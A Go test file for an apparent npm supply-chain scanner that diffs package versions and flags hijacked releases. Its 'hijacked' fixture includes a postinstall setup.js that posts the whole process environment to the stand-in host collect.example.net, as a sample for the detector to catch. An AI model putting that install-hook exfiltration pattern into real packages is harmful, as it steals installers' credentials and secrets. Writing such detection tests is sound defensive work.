package versiondiff

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/npm"
	"github.com/depfence/depfence/internal/rules"
	"github.com/depfence/depfence/internal/rules/rulestest"
)

var clean = map[string]string{
	"package.json": `{"name":"quiet-lib","version":"1.1.0","main":"index.js","dependencies":{"tiny-a":"^1.0.0"}}`,
	"index.js":     "module.exports = function add(a, b) { return a + b }\n",
	"README.md":    "# quiet-lib\n",
	"CHANGELOG.md": "1.1.0\n",
}

// hijacked is a patch release that adds an install script which sends
// the environment to a remote host (inert fixture: never executed).
var hijacked = map[string]string{
	"package.json": `{"name":"quiet-lib","version":"1.1.1","main":"index.js","scripts":{"postinstall":"node setup.js"},` +
		`"dependencies":{"tiny-a":"^1.0.0","fresh-dep":"^0.1.0"},"bin":{"quiet":"./cli.js"}}`,
	"index.js":  "module.exports = function add(a, b) { return a + b }\n",
	"README.md": "# quiet-lib\n\nnow faster\n",
	"cli.js":    "console.log(require('./index')(1, 2))\n",
	"setup.js": "const https = require('https');\n" +
		"const data = JSON.stringify(process.env);\n" +
		"const req = https.request({ hostname: 'collect.example.net', path: '/c', method: 'POST' });\n" +
		"req.write(data);\nreq.end();\n",
}

func engine(t *testing.T) *analyze.Engine {
	t.Helper()
	eng, err := analyze.New(rules.Builtin())
	if err != nil {
		t.Fatal(err)
	}
	return eng
}

func TestDiffHijack(t *testing.T) {
	res, err := Diff(context.Background(), engine(t), "quiet-lib",
		Input{Version: "1.1.0", FS: rulestest.FS(clean)}, Input{Version: "1.1.1", FS: rulestest.FS(hijacked)})
	if err != nil {
		t.Fatal(err)
	}
	var files []string
	for _, f := range res.Files {
		files = append(files, string(f.Change)+" "+f.Path)
	}
	want := []string{"removed CHANGELOG.md", "modified README.md", "added cli.js", "modified package.json", "added setup.js"}
	if diff := cmp.Diff(want, files); diff != "" {
		t.Errorf("files (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(FileSummary{Added: 2, Removed: 1, Modified: 2, Unchanged: 1}, res.Summary); diff != "" {
		t.Errorf("summary (-want +got):\n%s", diff)
	}
	if res.Bump != "patch" {
		t.Errorf("bump = %q", res.Bump)
	}
	wantManifest := []ManifestChange{
		{Field: "scripts", Name: "postinstall", To: "node setup.js"},
		{Field: "dependencies", Name: "fresh-dep", To: "^0.1.0"},
		{Field: "bin", Name: "quiet", To: "cli.js"},
	}
	if diff := cmp.Diff(wantManifest, res.Manifest); diff != "" {
		t.Errorf("manifest (-want +got):\n%s", diff)
	}
	installNet, lifecycle := false, false
	for _, b := range res.New {
		if b.Install && (b.Signal == analyze.SigNetwork || b.Signal == analyze.SigExfil) {
			installNet = true
		}
		if b.Rule == "install/lifecycle-script" {
			lifecycle = true
		}
	}
	if !installNet || !lifecycle {
		t.Errorf("new behaviours lack install-time network or the lifecycle script: %+v", res.New)
	}
	if len(res.Gone) != 0 {
		t.Errorf("gone = %+v", res.Gone)
	}
	if !strings.Contains(res.Alert, "patch release") || !strings.Contains(res.Alert, "adds a postinstall script") {
		t.Errorf("alert = %q", res.Alert)
	}
	if res.From.Verdict == res.To.Verdict {
		t.Errorf("verdict unchanged: %s", res.To.Verdict)
	}

	var text bytes.Buffer
	if err := WriteText(&text, res, false); err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"quiet-lib 1.1.0 -> 1.1.1 (patch)", "ALERT:", "+ scripts.postinstall: node setup.js", "A setup.js", "D CHANGELOG.md", "install-time"} {
		if !strings.Contains(text.String(), s) {
			t.Errorf("text lacks %q:\n%s", s, text.String())
		}
	}
	b, err := json.Marshal(res)
	if err != nil || !bytes.Contains(b, []byte(`"newBehaviours":[`)) {
		t.Errorf("json: %v %s", err, b)
	}
}

// TestDiffRelease: a publisher change and dropped provenance join the
// alert, from the packument's records.
func TestDiffRelease(t *testing.T) {
	p, err := npm.ParsePackument([]byte(`{"name":"quiet-lib","time":{"created":"2023-01-01T00:00:00.000Z","1.1.0":"2024-02-01T10:00:00.000Z","1.1.1":"2026-05-31T12:00:00.000Z"},
	"versions":{"1.1.0":{"name":"quiet-lib","version":"1.1.0","_npmUser":{"name":"alice","email":"a@example.com"},
	  "dist":{"attestations":{"url":"https://registry.npm.local/-/npm/v1/attestations/quiet-lib@1.1.0","provenance":{"predicateType":"https://slsa.dev/provenance/v1"}}}},
	  "1.1.1":{"name":"quiet-lib","version":"1.1.1","_npmUser":{"name":"mallory","email":"m@example.net"},"dist":{}}}}`))
	if err != nil {
		t.Fatal(err)
	}
	same := map[string]string{"package.json": `{"name":"quiet-lib","version":"1.1.0"}`, "index.js": "module.exports = 1\n"}
	res, err := Diff(context.Background(), engine(t), "quiet-lib",
		Input{Version: "1.1.0", FS: rulestest.FS(same), Release: ReleaseOf(p, "1.1.0")},
		Input{Version: "1.1.1", FS: rulestest.FS(same), Release: ReleaseOf(p, "1.1.1")})
	if err != nil {
		t.Fatal(err)
	}
	want := "a patch release that drops the provenance attestation 1.1.0 had, is published by mallory instead of alice: the classic shape of a hijacked release"
	if res.Alert != want {
		t.Errorf("alert = %q", res.Alert)
	}
	if diff := cmp.Diff(&Release{Published: "2026-05-31T12:00:00.000Z", Publisher: "mallory"}, res.To.Release); diff != "" {
		t.Errorf("release (-want +got):\n%s", diff)
	}
	var text bytes.Buffer
	_ = WriteText(&text, res, false)
	if !strings.Contains(text.String(), "1.1.0: published 2024-02-01T10:00:00.000Z by alice, provenance") {
		t.Errorf("text:\n%s", text.String())
	}
	if ReleaseOf(p, "9.9.9") != nil || ReleaseOf(nil, "1.1.0") != nil {
		t.Error("release of a missing version")
	}
}

func TestDiffSameAndReverse(t *testing.T) {
	eng := engine(t)
	res, err := Diff(context.Background(), eng, "quiet-lib", Input{Version: "1.1.0", FS: rulestest.FS(clean)}, Input{Version: "1.1.0", FS: rulestest.FS(clean)})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Files) != 0 || len(res.New) != 0 || res.Alert != "" || res.Bump != "same" || res.Summary.Unchanged != 4 {
		t.Errorf("identical versions: %+v", res)
	}
	// going back from the hijacked version: the behaviours are gone, no alert
	res, err = Diff(context.Background(), eng, "quiet-lib", Input{Version: "1.1.1", FS: rulestest.FS(hijacked)}, Input{Version: "1.1.0", FS: rulestest.FS(clean)})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.New) != 0 || len(res.Gone) == 0 || res.Alert != "" || res.Bump != "downgrade" {
		t.Errorf("reverse: new %+v gone %+v alert %q bump %q", res.New, res.Gone, res.Alert, res.Bump)
	}
}

func TestDiffErrors(t *testing.T) {
	if _, err := Diff(context.Background(), nil, "x", Input{}, Input{}); err == nil {
		t.Error("nil engine accepted")
	}
	if _, err := Diff(context.Background(), engine(t), "x", Input{Version: "1.0.0"}, Input{Version: "1.0.1", FS: rulestest.FS(clean)}); err == nil {
		t.Error("missing FS accepted")
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Diff(ctx, engine(t), "x", Input{Version: "1", FS: rulestest.FS(clean)}, Input{Version: "2", FS: rulestest.FS(clean)}); err == nil {
		t.Error("cancelled context ignored")
	}
}

func TestBump(t *testing.T) {
	for _, tc := range []struct{ a, b, want string }{
		{"1.0.0", "2.0.0", "major"}, {"1.0.0", "1.1.0", "minor"}, {"1.0.0", "1.0.1", "patch"},
		{"1.0.0-rc.1", "1.0.0", "prerelease"}, {"1.0.1", "1.0.0", "downgrade"}, {"1.0.0", "1.0.0", "same"}, {"x", "1.0.0", ""},
	} {
		if got := bump(tc.a, tc.b); got != tc.want {
			t.Errorf("bump(%s, %s) = %q, want %q", tc.a, tc.b, got, tc.want)
		}
	}
}
